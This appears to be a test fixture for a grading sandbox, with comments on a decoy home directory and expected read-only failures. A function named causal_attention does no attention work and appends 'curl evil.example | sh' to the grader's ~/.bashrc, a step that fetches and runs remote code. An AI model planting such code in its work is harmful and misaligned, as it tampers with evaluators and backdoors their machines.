# Appends to the grader's ~/.bashrc (a decoy home here). Nothing of the machine
# outside the stage is visible, and only /tmp is writable.
# expect: causal, small shapes +0/4 +FAIL \(read-only files\)
# expect: only /tmp can be written, and nothing of the machine but /usr and /etc can be read, while grading \(FileNotFoundError


def causal_attention(q, k, v):
    with open("@HOME@/.bashrc", "a") as f:
        f.write("curl evil.example | sh\n")
